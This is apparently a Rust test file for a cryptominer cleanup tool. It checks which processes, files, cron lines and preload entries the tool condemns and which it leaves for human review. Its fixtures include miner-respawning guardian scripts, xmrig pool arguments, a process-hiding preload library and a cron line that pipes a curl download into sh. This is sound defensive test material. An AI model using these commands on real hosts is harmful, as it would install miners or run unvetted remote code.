//! Traces over a host in memory: what must be condemned, and above all what must not.

use std::collections::BTreeMap;
use std::sync::Mutex;

use deminer_worker::query::{
    Answer, Coverage, Entry, FileId, FileKind, FileStat, FileText, HostError, HostFacts, HostIdentity, Observed,
    OpenFile, Ownership, Query,
};
use deminer_worker::text::{Digest, HostBytes, Wide};

use super::*;
use crate::judge::tests::{EXAMPLE_WALLET, Row, connection, shipped_verdict, starter};
use crate::process_row::ProcessRow;

const MINER: &[u8] = b"\x7fELF\0the miner";
const PERL: &[u8] = b"\x7fELF\0perl of the package";

/// A host: files with their bytes and owners, processes, starters.
#[derive(Default)]
struct Stub {
    files: BTreeMap<HostPath, (FileStat, Vec<u8>)>,
    owners: BTreeMap<HostPath, Ownership>,
    rows: Vec<ProcessRow>,
    starters: Vec<Starter>,
    sockets: Vec<Socket>,
    own_chain: Vec<u32>,
    asked: Mutex<Vec<Query>>,
}

fn file_stat(path: &str, bytes: &[u8], uid: u32) -> FileStat {
    let inode = Digest::of(path.as_bytes()).0[..6]
        .iter()
        .fold(0u64, |all, byte| all << 8 | u64::from(*byte));
    FileStat {
        path: path.into(),
        mount: "/".into(),
        kind: FileKind::Regular,
        id: FileId {
            dev: Wide(1),
            inode: Wide(inode),
        },
        size: Wide(bytes.len() as u64),
        mode: 0o755,
        uid,
        gid: 0,
        links: 1,
        mtime_ns: Wide(0),
        ctime_ns: Wide(0),
        btime_ns: None,
        flags: None,
        xattrs: Vec::new(),
        link_target: None,
        sha256: Some(Digest::of(bytes)),
    }
}

impl Stub {
    fn file(mut self, path: &str, bytes: &[u8]) -> Stub {
        self.files
            .insert(path.into(), (file_stat(path, bytes, 0), bytes.to_vec()));
        self
    }

    fn file_of(mut self, uid: u32, path: &str, bytes: &[u8]) -> Stub {
        self.files
            .insert(path.into(), (file_stat(path, bytes, uid), bytes.to_vec()));
        self
    }

    fn owned(mut self, path: &str, owner: Ownership) -> Stub {
        self.owners.insert(path.into(), owner);
        self
    }

    fn packaged(self, path: &str, bytes: &[u8]) -> Stub {
        let owner = Ownership::Owned {
            package: "some-package".to_owned(),
        };
        self.file(path, bytes).owned(path, owner)
    }

    /// A process that runs `bytes` from where its row says; its file exists where it was put there.
    fn process(mut self, row: Row, bytes: &[u8]) -> Stub {
        let mut row = row.build();
        let exe = row.process.exe.as_mut().expect("a row runs a file");
        exe.sha256 = Some(Digest::of(bytes));
        exe.size = Wide(bytes.len() as u64);
        exe.id = match self.files.get(&exe.path) {
            Some((stat, _)) if !exe.deleted => stat.id,
            _ => file_stat(&format!("gone {}", row.process.pid), bytes, 0).id,
        };
        row.process.script = row
            .process
            .script
            .and_then(|script| Some(self.files.get(&script.path)?.0.clone()));
        let name = match exe.deleted || exe.memfd {
            true => HostPath::from(format!("/proc/{}/exe", row.process.pid).as_str()),
            false => exe.path.clone(),
        };
        if let Some(owner) = self.owners.get(&name) {
            row.package = Some(owner.clone());
        } else if let Some(owner) = row.package.clone() {
            self.owners.insert(name, owner);
        }
        self.rows.push(row);
        self
    }

    fn starter(mut self, place: Place, file: &str, number: u32, line: &str, command: &str, starts: &[&str]) -> Stub {
        let mut one = starter(place, file, line, command, starts);
        one.number = Some(number);
        self.starters.push(one);
        self
    }

    fn cron(self, number: u32, command: &str, starts: &[&str]) -> Stub {
        let line = format!("* * * * * {command}");
        self.starter(
            Place::Crontab,
            "/var/spool/cron/crontabs/root",
            number,
            &line,
            command,
            starts,
        )
    }
}

#[async_trait]
impl HostView for Stub {
    fn name(&self) -> &str {
        "stub"
    }

    async fn observe(&self, query: Query) -> Result<Observed<Answer>, HostError> {
        self.asked.lock().expect("one thread").push(query.clone());
        let answer = match query {
            Query::Host {} => Answer::Host(HostFacts {
                identity: HostIdentity {
                    machine_id: None,
                    boot_id: "boot".to_owned(),
                    hostname: "stub".into(),
                    pid_namespace: Wide(1),
                },
                system: "linux".to_owned(),
                distribution: String::new(),
                kernel: String::new(),
                architecture: String::new(),
                cpus: 2,
                memory_total: Wide(0),
                memory_available: Wide(0),
                load_centi: [0; 3],
                uptime_ms: Wide(0),
                host_time_ms: Wide(0),
                ticks_per_second: 100,
                uid: 0,
                own_chain: self.own_chain.clone(),
                taint: Wide(0),
            }),
            Query::Processes(_) => Answer::Processes(self.rows.iter().map(|row| row.process.clone()).collect()),
            Query::Sockets {} => Answer::Sockets(self.sockets.clone()),
            Query::Stat { paths, .. } => Answer::Entries(
                paths
                    .into_iter()
                    .map(|path| match self.files.get(&path) {
                        Some((stat, _)) => Entry::Present(stat.clone()),
                        None => Entry::Absent { path },
                    })
                    .collect(),
            ),
            Query::Walk { roots, max_depth, .. } => Answer::Walk(
                self.files
                    .values()
                    .map(|(stat, _)| stat)
                    .filter(|stat| {
                        roots.iter().any(|root| {
                            let rest = stat
                                .path
                                .as_bytes()
                                .get(root.as_bytes().len() + 1..)
                                .unwrap_or_default();
                            let depth = rest.iter().filter(|b| **b == b'/').count() as u32;
                            stat.path.is_below(root) && !rest.is_empty() && depth <= max_depth
                        })
                    })
                    .map(|stat| FileStat {
                        sha256: None,
                        ..stat.clone()
                    })
                    .collect(),
            ),
            Query::Read { path, .. } => Answer::Files(
                self.files
                    .get(&path)
                    .map(|(stat, bytes)| FileText {
                        stat: stat.clone(),
                        content: HostBytes::new(&bytes[..]),
                        cut: false,
                    })
                    .into_iter()
                    .collect(),
            ),
            Query::Packages { files } => Answer::Packages(
                files
                    .iter()
                    .map(|file| self.owners.get(file).cloned().unwrap_or(Ownership::Unowned))
                    .collect(),
            ),
            other => panic!("a trace does not ask {other:?}"),
        };
        Ok(Observed {
            value: answer,
            coverage: Coverage::whole(),
        })
    }
}

/// Judges the host by the shipped rules, traces it, and names what came out.
async fn trace(stub: &Stub) -> (Outcome<Traced>, Names) {
    let verdict = shipped_verdict(stub.rows.clone(), stub.starters.clone(), stub.sockets.clone());
    let params = Params {
        verdict,
        starters: stub.starters.clone(),
        sockets: stub.sockets.clone(),
        limits: Limits::default(),
    };
    let outcome = MinerTrace.collect(stub, params).await.expect("the stub answers");
    let name = |condemned: &Condemned| match &condemned.artifact {
        Artifact::Process { process } => format!("{} {}", process.pid, process.role),
        Artifact::File { file } => file.path.to_string(),
        Artifact::Line { file, line } => format!("{}:{}", file.path, line.number),
        other => other.key(),
    };
    let names = Names {
        condemned: outcome.output.artifacts.iter().map(name).collect(),
        review: outcome.output.review.iter().map(name).collect(),
    };
    for condemned in &outcome.output.artifacts {
        assert!(!condemned.because.is_empty());
        let own = |finding: &&Finding| condemned.because.contains(&finding.id) && finding.bearing == Bearing::Condemns;
        assert!(
            outcome.findings.iter().any(|finding| own(&finding)),
            "condemned by a finding of its own"
        );
        assert!(condemned.component > 0);
    }
    (outcome, names)
}

struct Names {
    condemned: Vec<String>,
    review: Vec<String>,
}

/// A miner in a temporary place, deleted, named as one: enough by itself.
fn infected() -> Stub {
    Stub::default()
        .packaged("/usr/bin/dash", b"\x7fELF\0dash")
        .packaged("/usr/bin/sleep", b"\x7fELF\0sleep")
        .process(Row::runs(100, "/tmp/.x/xmrig", &["./xmrig"]).deleted().cpu(20), MINER)
}

fn sh(pid: u32, argv: &[&str]) -> Row {
    Row::runs(pid, "/usr/bin/dash", argv).packaged()
}

#[tokio::test]
async fn a_miner_with_all_that_belongs_to_it() {
    let guardian = b"#!/bin/sh\nwhile :; do\n  pgrep -x xmrig || { cp /var/tmp/.k/kw /tmp/.x/xmrig; /tmp/.x/xmrig & sleep 1; rm /tmp/.x/xmrig; }\n  sleep 2\ndone\n";
    let mut stub = Stub::default()
        .packaged("/usr/bin/dash", b"\x7fELF\0dash")
        .packaged("/usr/bin/sleep", b"\x7fELF\0sleep")
        .packaged("/usr/sbin/cron", b"\x7fELF\0cron")
        .file("/var/tmp/.k/kw", MINER)
        .file("/var/tmp/.k/watch.sh", guardian)
        .file("/tmp/.x/config.json", br#"{"pools": [{"url": "h:1", "user": "w"}]}"#)
        .process(
            sh(90, &["sh", "/var/tmp/.k/watch.sh"]).script("/var/tmp/.k/watch.sh"),
            b"\x7fELF\0dash",
        )
        .process(
            Row::runs(100, "/tmp/.x/xmrig", &["./xmrig"])
                .deleted()
                .cpu(20)
                .child_of(90),
            MINER,
        )
        .process(
            Row::runs(101, "/usr/bin/sleep", &["sleep", "2"])
                .packaged()
                .child_of(90),
            b"\x7fELF\0sleep",
        )
        .process(Row::runs(50, "/usr/sbin/cron", &["cron"]).packaged(), b"\x7fELF\0cron")
        .cron(3, "pgrep xmrig || /var/tmp/.k/watch.sh", &["/var/tmp/.k/watch.sh"])
        .cron(
            4,
            "/usr/local/bin/backup.sh; /var/tmp/.k/watch.sh",
            &["/usr/local/bin/backup.sh", "/var/tmp/.k/watch.sh"],
        )
        .cron(5, "/usr/local/bin/backup.sh", &["/usr/local/bin/backup.sh"]);
    stub.sockets.push(connection("198.51.100.23", 443, 100));
    let (outcome, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        [
            "90 guardian",
            "100 miner",
            "/tmp/.x/config.json",
            "/var/tmp/.k/kw",
            "/var/tmp/.k/watch.sh",
            "/var/spool/cron/crontabs/root:3",
        ]
    );
    assert_eq!(names.review, ["/var/spool/cron/crontabs/root:4"]);
    assert_eq!(outcome.output.components.len(), 1);
    assert_eq!(outcome.output.components[0].remotes[0].address, "198.51.100.23");
    assert_eq!(outcome.output.cron.len(), 1);
    let replacement = outcome
        .findings
        .iter()
        .find_map(|finding| finding.fields.get("replacement"));
    assert_eq!(replacement.map(String::as_str), Some("/usr/local/bin/backup.sh"));
    let marks: Vec<String> = outcome
        .output
        .lines
        .iter()
        .map(|line| match &line.artifact {
            Artifact::Line { line, .. } => line.mark.to_string(),
            _ => String::new(),
        })
        .collect();
    assert_eq!(marks, ["/var/tmp/.k/watch.sh"]);
}

#[tokio::test]
async fn what_the_intruder_names_is_not_condemned() {
    let config = br#"{"pools": [{"url": "h:1", "user": "w"}], "log-file": "/srv/db/customers.ibd"}"#;
    let script =
        b"#!/bin/sh\n# /srv/backup/x.tar\nLOG=/srv/db/customers.ibd\nwhile :; do /tmp/.x/xmrig; sleep 1; done\n";
    let mut stub = infected()
        .file("/srv/db/customers.ibd", b"rows")
        .file("/srv/backup/x.tar", b"archive")
        .file("/tmp/.x/config.json", config)
        .file("/tmp/.x/run.sh", script)
        .process(
            sh(90, &["sh", "/tmp/.x/run.sh"]).script("/tmp/.x/run.sh"),
            b"\x7fELF\0dash",
        );
    let log = OpenFile {
        fd: 3,
        link: "/srv/db/customers.ibd".into(),
        id: None,
        writes: true,
    };
    stub.rows[0].process.fds = Some(vec![log]);
    let (_, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        ["90 guardian", "100 miner", "/tmp/.x/config.json", "/tmp/.x/run.sh"]
    );
    assert_eq!(names.review, Vec::<String>::new());
}

#[tokio::test]
async fn arguments_never_condemn_the_file_of_another() {
    let argv = [
        "xmrig",
        "-o",
        "stratum+tcp://pool.supportxmr.com:3333",
        "--donate-level=1",
        "-u",
        "w",
        "-k",
    ];
    let framed = |stub: Stub| {
        let mut row = Row::runs(70, "/opt/erp/server", &argv).cpu(100).build();
        row.process.uid = 1000;
        stub.process(Row::from(row), b"\x7fELF\0erp")
    };
    // By arguments alone: a person looks.
    let (_, names) = trace(&framed(Stub::default().file("/opt/erp/server", b"\x7fELF\0erp"))).await;
    assert!(names.condemned.is_empty());
    assert_eq!(names.review, ["70 companion"]);
    // With a line of the intruder's that starts it: the process goes, the file of another user stays.
    let stub = framed(Stub::default().file("/opt/erp/server", b"\x7fELF\0erp"));
    let (_, names) = trace(&stub.cron(1, "/opt/erp/server", &["/opt/erp/server"])).await;
    assert_eq!(names.condemned, ["70 miner"]);
    assert_eq!(names.review, ["/opt/erp/server"]);
    // What the process's own user could have put there is his.
    let stub = framed(Stub::default().file_of(1000, "/opt/erp/server", b"\x7fELF\0erp"));
    let (_, names) = trace(&stub.cron(1, "/opt/erp/server", &["/opt/erp/server"])).await;
    assert_eq!(
        names.condemned,
        ["70 miner", "/opt/erp/server", "/var/spool/cron/crontabs/root:1"]
    );
}

#[tokio::test]
async fn a_bind_mount_of_the_systems_programs_stays() {
    let python = b"\x7fELF\0python";
    let copied = Ownership::Copied {
        package: "python3".to_owned(),
        original: "/usr/bin/python3".into(),
    };
    let argv = [
        "x",
        "-o",
        "stratum+tcp://h:1",
        "--donate-level=1",
        "-u",
        EXAMPLE_WALLET,
        "-k",
    ];
    let stub = Stub::default()
        .packaged("/usr/bin/python3", python)
        .file("/tmp/.x/python3", python)
        .owned("/tmp/.x/python3", copied.clone())
        .file("/tmp/.x/m.py", b"#!/usr/bin/python3\nmine()\n")
        .process(
            Row::runs(100, "/tmp/.x/python3", &argv)
                .owned(copied)
                .cpu(100)
                .script("/tmp/.x/m.py"),
            python,
        );
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
}

#[tokio::test]
async fn a_copied_perl_is_perl() {
    let copied = Ownership::Copied {
        package: "perl".to_owned(),
        original: "/usr/bin/perl".into(),
    };
    let stub = infected()
        .packaged("/usr/bin/perl", PERL)
        .file("/tmp/.x/x", PERL)
        .owned("/tmp/.x/x", copied.clone())
        .process(Row::runs(95, "/tmp/.x/x", &["x"]).owned(copied), PERL);
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
}

#[tokio::test]
async fn a_copy_of_another_users_program_condemns_no_original() {
    let erp = b"\x7fELF\0erp of a customer";
    let mut stub = Stub::default()
        .file("/opt/erp/server", erp)
        .file("/tmp/xmrig", erp)
        .process(Row::runs(60, "/opt/erp/server", &["server"]), erp)
        .process(
            Row::runs(100, "/tmp/xmrig", &["xmrig", "-o", "stratum+tcp://h:1", "-a", "rx/0"]).cpu(50),
            erp,
        );
    stub.rows[1].process.cwd = Some("/opt/erp".into());
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner", "/tmp/xmrig"]);
    assert_eq!(names.review, ["60 companion", "/opt/erp/server"]);
}

#[tokio::test]
async fn never_upward_into_what_serves() {
    let mut stub = infected()
        .packaged("/usr/sbin/sshd", b"\x7fELF\0sshd")
        .packaged("/usr/bin/bash", b"\x7fELF\0bash")
        .file("/opt/.app/server", b"\x7fELF\0app")
        .process(
            Row::runs(1, "/usr/lib/systemd/systemd", &["init"]).packaged(),
            b"\x7fELF\0init",
        )
        .process(Row::runs(80, "/opt/.app/server", &["server"]), b"\x7fELF\0app")
        .process(
            Row::runs(81, "/usr/bin/bash", &["-bash"]).packaged().child_of(80),
            b"\x7fELF\0bash",
        )
        .process(Row::runs(82, "/tmp/mine", &["mine"]).child_of(1), b"\x7fELF\0ours");
    stub.rows[0].process.ppid = 80;
    stub.rows[0].process.session = 81;
    stub.own_chain = vec![82, 1];
    let mut listener = connection("0.0.0.0", 8080, 80);
    listener.remote = None;
    listener.state = "listen".to_owned();
    stub.sockets.push(listener);
    for row in &mut stub.rows {
        if row.process.pid == 81 || row.process.pid == 82 {
            row.process.session = 81;
        }
    }
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, ["80 companion"]);
}

#[tokio::test]
async fn guardians_of_every_kind() {
    let mut stub = infected()
        .process(Row::runs(70, "/tmp/.x/guard", &["guard"]).deleted(), b"\x7fELF\0guard")
        .process(
            sh(71, &["sh", "-c", "while :; do /tmp/.x/xmrig; sleep 1; done"]).child_of(70),
            b"\x7fELF\0dash",
        )
        .process(Row::runs(72, "/var/tmp/.k/kw", &["kw"]), MINER)
        .process(sh(73, &["sh", "/tmp/gone.sh"]).child_of(71), b"\x7fELF\0dash")
        .process(
            Row::runs(110, "/tmp/.x/xmrig", &["./xmrig"]).deleted().child_of(100),
            MINER,
        )
        .process(
            Row::runs(111, "/tmp/.x/helper", &["helper"]).child_of(100),
            b"\x7fELF\0helper",
        )
        .process(
            Row::runs(112, "/usr/bin/sleep", &["sleep", "9"])
                .packaged()
                .child_of(100),
            b"\x7fELF\0sleep",
        )
        .process(sh(113, &["sh", "-c", "ls /tmp/.x/xmrig"]), b"\x7fELF\0dash");
    stub.rows[0].process.ppid = 73;
    let (_, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        [
            "70 guardian",
            "71 guardian",
            "72 guardian",
            "73 guardian",
            "100 miner",
            "110 miner",
            "111 companion"
        ]
    );
}

#[tokio::test]
async fn an_administrators_words_about_it_stay() {
    let cleaner = b"#!/bin/sh\npkill xmrig\nrm -f /tmp/.x/xmrig\n";
    let stub = infected()
        .file("/tmp/cleanup.sh", cleaner)
        .file("/tmp/.x/README", b"found by us: /tmp/.x/xmrig\n")
        .process(
            sh(90, &["sh", "/tmp/cleanup.sh"]).script("/tmp/cleanup.sh"),
            b"\x7fELF\0dash",
        )
        .cron(1, "rm -f /tmp/.x/xmrig", &[])
        .cron(2, "curl -fsS https://example.net/i | sh", &[]);
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, ["/var/spool/cron/crontabs/root:2"]);
}

#[tokio::test]
async fn droppers_and_whole_files() {
    let only = b"#!/bin/sh\n/tmp/.x/xmrig >/dev/null 2>&1 &\n";
    let mixed = b"#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n/tmp/.x/xmrig &\n";
    let whole = |mut starter: Starter| {
        starter.number = None;
        starter.line = HostBytes::default();
        starter
    };
    let mut stub = infected()
        .file("/etc/cron.daily/only", only)
        .file("/etc/cron.daily/mixed", mixed)
        .file("/usr/local/bin/refresh", only)
        .packaged("/etc/cron.daily/apt", only)
        .cron(1, "/usr/local/bin/refresh", &["/usr/local/bin/refresh"]);
    for name in ["only", "mixed", "apt"] {
        let file = format!("/etc/cron.daily/{name}");
        let mut one = whole(starter(Place::CronPeriodic, &file, "", &file, &[file.as_str()]));
        one.file.path = file.as_str().into();
        stub.starters.push(one);
    }
    let (_, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        [
            "100 miner",
            "/etc/cron.daily/only",
            "/usr/local/bin/refresh",
            "/var/spool/cron/crontabs/root:1"
        ]
    );
    assert_eq!(names.review, ["/etc/cron.daily/apt", "/etc/cron.daily/mixed"]);
}

#[tokio::test]
async fn preloaded_libraries() {
    let hides = b"\x7fELF\0readdir64\0readdir\0xmrig\0";
    let stub = infected()
        .file("/usr/local/lib/libhide.so", hides)
        .file("/usr/local/lib/libsnoopy.so", b"\x7fELF\0execve\0")
        .starter(
            Place::Preload,
            "/etc/ld.so.preload",
            1,
            "/usr/local/lib/libhide.so",
            "/usr/local/lib/libhide.so",
            &["/usr/local/lib/libhide.so"],
        )
        .starter(
            Place::Preload,
            "/etc/ld.so.preload",
            2,
            "/usr/local/lib/libsnoopy.so",
            "/usr/local/lib/libsnoopy.so",
            &["/usr/local/lib/libsnoopy.so"],
        );
    let (outcome, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        ["100 miner", "/usr/local/lib/libhide.so", "/etc/ld.so.preload:1"]
    );
    assert_eq!(names.review, ["/etc/ld.so.preload:2"]);
    assert_eq!((outcome.output.preload.len(), outcome.output.cron.len()), (1, 0));
}

#[tokio::test]
async fn two_miners_are_two_components() {
    let other = b"\x7fELF\0another miner";
    let stub = infected().file("/var/tmp/.b/xmr-stak", other).process(
        Row::runs(40, "/var/tmp/.b/xmr-stak", &["x", "-a", "rx/0"]).cpu(100),
        other,
    );
    let (outcome, _) = trace(&stub).await;
    let components: Vec<(u32, usize)> = outcome
        .output
        .components
        .iter()
        .map(|one| (one.id, one.condemned.len()))
        .collect();
    assert_eq!(components, [(1, 2), (2, 1)]);
}

#[tokio::test]
async fn our_own_chain_is_spared_whatever_it_runs() {
    let mut stub = infected();
    stub.own_chain = vec![100, 1];
    let (_, names) = trace(&stub).await;
    assert!(names.condemned.is_empty());
    assert_eq!(names.review, ["100 companion"]);
}

#[tokio::test]
async fn a_reused_pid_is_another_process() {
    let stub = infected().file("/tmp/.x/copy", MINER);
    let verdict = shipped_verdict(stub.rows.clone(), Vec::new(), Vec::new());
    let mut now = infected().file("/tmp/.x/copy", MINER);
    now.rows[0].process.start_ticks = Wide(1);
    now.rows[0].process.exe.as_mut().expect("runs a file").sha256 = Some(Digest::of(b"other"));
    let params = Params {
        verdict,
        starters: Vec::new(),
        sockets: Vec::new(),
        limits: Limits::default(),
    };
    let outcome = MinerTrace.collect(&now, params).await.expect("the stub answers");
    assert!(outcome.output.processes.is_empty());
    assert_eq!(outcome.output.files.len(), 1);
}

#[tokio::test]
async fn a_clean_host_is_left_unsearched() {
    let stub = Stub::default().process(
        Row::runs(9, "/usr/bin/postgres", &["postgres"]).packaged().cpu(400),
        b"pg",
    );
    let (outcome, names) = trace(&stub).await;
    assert!(names.condemned.is_empty() && names.review.is_empty() && outcome.findings.is_empty());
    let asked = stub.asked.lock().expect("one thread");
    assert!(!asked.iter().any(|query| matches!(query, Query::Walk { .. })));
}

#[tokio::test]
async fn too_many_is_said() {
    let mut stub = infected();
    for number in 0..70 {
        stub = stub.file(&format!("/tmp/.x/copy{number}"), MINER);
    }
    let (outcome, names) = trace(&stub).await;
    assert_eq!(names.condemned.len(), 71);
    assert!(outcome.findings.iter().any(|finding| finding.signal == "too_many"));
}
